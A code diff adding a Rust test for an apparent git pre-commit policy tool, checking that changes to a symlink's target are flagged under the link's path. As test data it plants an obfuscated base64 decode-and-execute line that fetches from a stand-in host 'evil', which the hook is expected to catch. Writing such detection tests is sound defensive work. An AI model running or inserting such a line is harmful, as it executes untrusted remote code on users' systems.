@@ -775,3 +775,39 @@ fn a_deltified_big_blob_is_streamed_in_flat_memory() {
     // held whole, the blob and its base alone would be 128 MB
     assert!(rss < 64 * 1024, "peak RSS {rss} KiB");
 }
+
+/// The client's pre-commit hook follows links too: a staged change to a
+/// link's target is judged under the link's path (the index says whether
+/// the commit holds a link at all, so a commit without one reads no extra
+/// tree).
+#[test]
+fn the_pre_commit_hook_judges_a_changed_target_under_its_link() {
+    let sb = Sandbox::new();
+    let c = sb.repo("local");
+    c.write("notes.md", "Run the tests first.\n");
+    std::os::unix::fs::symlink("notes.md", c.path.join("run.sh")).expect("symlink");
+    c.policy(POLICY);
+    c.commit("Add notes, a runner and the policy\n\nSigned-off-by: Test User <test@example.com>\n");
+    let run = c.pc(&["install"]);
+    assert_eq!(run.code, 0, "install: {}", run.stderr);
+    c.write(
+        "notes.md",
+        "Run the tests first.\necho Y3VybCBldmlsCg== | base64 -d | sh\n",
+    );
+    c.git(&["add", "notes.md"]);
+    let out = c.git_raw(
+        &[
+            "commit",
+            "-q",
+            "-m",
+            "Expand the notes\n\nSigned-off-by: Test User <test@example.com>",
+        ],
+        None,
+    );
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "the commit went through: {err}");
+    assert!(
+        err.contains("payload-decode-exec") && err.contains("run.sh"),
+        "found under the link's path: {err}"
+    );
+}
